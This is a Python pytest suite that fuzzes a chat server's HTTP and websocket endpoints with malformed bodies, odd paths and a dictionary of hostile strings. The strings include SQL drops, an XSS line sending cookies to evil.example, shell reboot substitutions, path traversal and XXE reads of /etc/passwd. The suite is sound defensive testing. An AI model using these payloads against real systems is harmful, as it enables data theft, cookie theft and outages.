"""Whatever comes by HTTP: a typed error, and the node lives; nothing hostile is executed."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator
from typing import Any

import httpx
import pytest
from tests.support.town import Town, group, text_of
from tests.support.ws_client import whole_list, whole_log

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.usefixtures("unharmed")]

DEEP = 100_000

HOSTILE = {
    "sql": "'; DROP TABLE log; --",
    "more sql": '" OR 1=1; DELETE FROM accounts; --',
    "html": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "more html": "<img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "template": "{{7*7}} ${7*7} #{7*7} %s %n {0}",
    "path": "../../../../etc/passwd",
    "percent": "%00%0d%0aSet-Cookie:%20a=b",
    "shell": "$(reboot) `reboot` ; reboot | reboot",
    "markup": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "null": "a\x00b",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "line ends": "a\r\nb\u2028c\u2029d",
    "bidi": "\u202egnp.exe\u2066\u2069",
    "beyond": "\ufffe\uffff\U0010ffff\ufeff",
    "marks": "Z\u0351\u036b\u0343" * 200,
}


BODIES: dict[str, bytes] = {
    "empty": b"",
    "half": b'{"name":',
    "word": b"nul",
    "array": b"[]",
    "string": b'"x"',
    "number": b"5",
    "deep array": b"[" * DEEP,
    "deep object": b'{"name":' * DEEP,
    "deep and whole": b'{"name":' + b"[" * 5000 + b"]" * 5000 + b"}",
    "invalid utf-8": b'{"name":"\xff\xfe","password":"x"}',
    "surrogate in utf-8": b'{"name":"\xed\xa0\x80","password":"correct horse 9"}',
    "lone surrogate": rb'{"name":"\ud800abc","password":"correct horse 9"}',
    "not a number": b'{"name":NaN}',
    "utf-16": '{"name":"x"}'.encode("utf-16"),
    "form": b"name=x&password=y",
    "nulls": b"\0" * 100,
    "wrong types": b'{"name":5,"password":[],"cid":"x","prev":{},"b":7,"s":"x","refresh":0}',
    "nulls in fields": b'{"name":null,"password":null,"cid":null,"b":null}',
    "huge number": b'{"cid":' + b"9" * 5000 + b',"prev":1e999,"s":-1}',
}


@pytest.mark.parametrize("content", BODIES.values(), ids=BODIES)
async def test_a_body_that_is_not_what_was_asked_for_is_a_typed_error(
    town: Town, content: bytes
) -> None:
    ann = await town.person("ann")
    c = await group(await town.socket(ann))
    for method, path in (
        ("POST", "/v1/register"),
        ("POST", "/v1/login"),
        ("POST", "/v1/refresh"),
        ("POST", "/v1/recover"),
        ("PATCH", "/v1/me"),
        ("POST", "/v1/conversations"),
        ("PATCH", f"/v1/conversations/{c}"),
        ("POST", f"/v1/conversations/{c}/messages"),
        ("POST", f"/v1/conversations/{c}/members"),
        ("PATCH", f"/v1/conversations/{c}/members/{ann.user}"),
        ("POST", f"/v1/conversations/{c}/leave"),
        ("POST", f"/v1/conversations/{c}/read"),
    ):
        answer = await ann.http.request(
            method, path, content=content, headers={"Content-Type": "application/json"}
        )
        assert 400 <= answer.status_code < 500, (path, answer.status_code, answer.text)
        problem = answer.json()
        assert problem["code"] in ("bad_request", "unauthenticated"), (path, problem)
        assert isinstance(problem["msg"], str) and len(problem["msg"]) < 500


async def test_a_body_beyond_the_limit_is_refused_before_it_is_read(town: Town) -> None:
    ann = await town.person("ann")
    answer = await ann.http.post("/v1/login", content=b'{"name":"' + b"x" * (2 << 20) + b'"}')
    assert (answer.status_code, answer.json()["code"]) == (413, "too_large")
    socket = await town.raw()
    await socket.write(
        b"POST /v1/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 999999999999\r\n\r\n" + b" " * (19 << 19)
    )
    assert (await socket.read_line()).startswith(b"HTTP/1.1 413")

    async def endless() -> AsyncGenerator[bytes]:
        for _ in range(64):
            yield b" " * (1 << 16)

    try:
        answer = await ann.http.post("/v1/login", content=endless())
    except httpx.TransportError:
        return  # hung up on in the middle
    assert answer.status_code == 413


@pytest.mark.parametrize(
    ("method", "path", "statuses"),
    [
        ("GET", "/v1/nothing", (404,)),
        ("GET", "/v1", (404,)),
        ("DELETE", "/v1/login", (405, 404)),
        ("GET", "/v1/register", (405, 404)),
        ("TRACE", "/", (405, 404)),
        ("GET", "/app/../../../../etc/passwd", (404,)),
        ("GET", "/app/x/%2e%2e/%2e%2e/%2e%2e/etc/passwd", (404,)),
        ("GET", "/app/x/..%2f..%2f..%2f..%2fetc/passwd", (404,)),
        ("GET", "/app/%00", (404, 400)),
        ("GET", "/v1/conversations/%00", (404, 400)),
        ("GET", "/v1/conversations/..%2f..%2fme", (404,)),
        ("GET", "/v1/conversations/%ff%fe", (404, 400)),
        ("GET", "/v1/conversations?lv=-1", (400,)),
        ("GET", "/v1/conversations?lv=x&after='", (400,)),
        ("GET", "/v1/users?q=" + "x" * 5000, (400, 414)),
        ("GET", "/v1/users", (400,)),
        ("GET", "/metrics/../v1/me", (404, 200, 401)),
    ],
)
async def test_no_odd_path_leads_anywhere(
    town: Town, method: str, path: str, statuses: tuple[int, ...]
) -> None:
    ann = await town.person("ann")
    socket = await town.raw()
    await socket.write(
        f"{method} {path} HTTP/1.1\r\nHost: {town.base[7:]}\r\nConnection: close\r\n"
        f"Authorization: Bearer {ann.access}\r\n\r\n".encode()
    )
    answer = await socket.ended()
    assert int(answer.split(b" ", 2)[1]) in statuses, answer[:300]
    assert b"root:" not in answer and b"Traceback" not in answer
    if statuses[0] >= 400 and method != "TRACE" and path.startswith("/v1"):
        _, _, content = answer.partition(b"\r\n\r\n")
        assert json.loads(content)["code"]


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
async def test_hostile_words_in_every_text_field_are_words_or_refused(
    town: Town, words: str
) -> None:
    ann, ben = await town.people("ann", "ben")
    ann_ws, ben_ws = await town.sockets(ann, ben)
    # In a message they are words: stored, delivered and listed as they are.
    ack = await ann_ws.post(ben.user, 1, words)
    assert text_of(await ben_ws.expect("msg", s=ack["s"])) == words
    assert text_of((await whole_log(ben_ws, ack["c"]))[1]) == words
    (line,) = (await whole_list(ben_ws))["convs"]
    assert words.startswith(text_of(line["last"]))
    # Elsewhere they are words, or not taken.
    made = await ann_ws.ask("create", cid=1, prev=0, title=words, members=[ben.user])
    assert made.get("title") == words or made.get("code") in ("bad_request", "too_large"), made
    fields: list[dict[str, Any]] = [{"display": words}, {"about": words}, {"presence": words}]
    for field in fields:
        answer = await ann.http.patch("/v1/me", json=field)
        assert answer.status_code in (200, 400, 413), answer.text
        if answer.status_code == 200:
            assert (await ann.http.get("/v1/me")).json()[next(iter(field))] == words
    for path, content in (
        ("/v1/register", {"name": words, "password": "correct horse 9"}),
        ("/v1/register", {"name": f"name{abs(hash(words))}", "password": words}),
        ("/v1/login", {"name": words, "password": words, "device": words}),
        ("/v1/login", {"name": ann.name, "password": "correct horse 9", "device": words}),
        ("/v1/recover", {"name": words, "code": words, "password": "correct horse 9"}),
        ("/v1/refresh", {"refresh": words}),
    ):
        answer = await ann.http.post(path, json=content)
        assert answer.status_code in (200, 201, 400, 401, 403, 404, 413), (path, answer.text)
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        if answer.status_code >= 400:
            assert words not in answer.json()["msg"]
    found = await ann.http.get("/v1/users", params={"q": words})
    assert found.status_code in (200, 400)
    asked = await ann_ws.ask("hist", c=words, after=0)
    assert asked["t"] == "err" and words not in asked["msg"]
    again = await town.socket(ann, inst=words[:64], client=words[:64])
    await again.settled()
    # Nothing was dropped, and nobody was deleted.
    assert (await again.ask("hist", c=ack["c"]))["t"] == "page"


async def test_pages_carry_a_strict_policy_and_take_no_words_from_the_address(
    town: Town,
) -> None:
    ann = await town.person("ann")
    for path in ("/", "/docs", "/?q=<script>alert(1)</script>", "/docs?x=<script>"):
        page = await ann.http.get(path)
        assert page.status_code == 200
        policy = page.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "unsafe-inline" not in policy
        assert "frame-ancestors 'none'" in policy
        assert "alert(1)" not in page.text and "x=<script>" not in page.text
    wrong = await ann.http.get("/<script>alert(1)</script>")
    assert wrong.status_code == 404 and "<script>" not in wrong.text
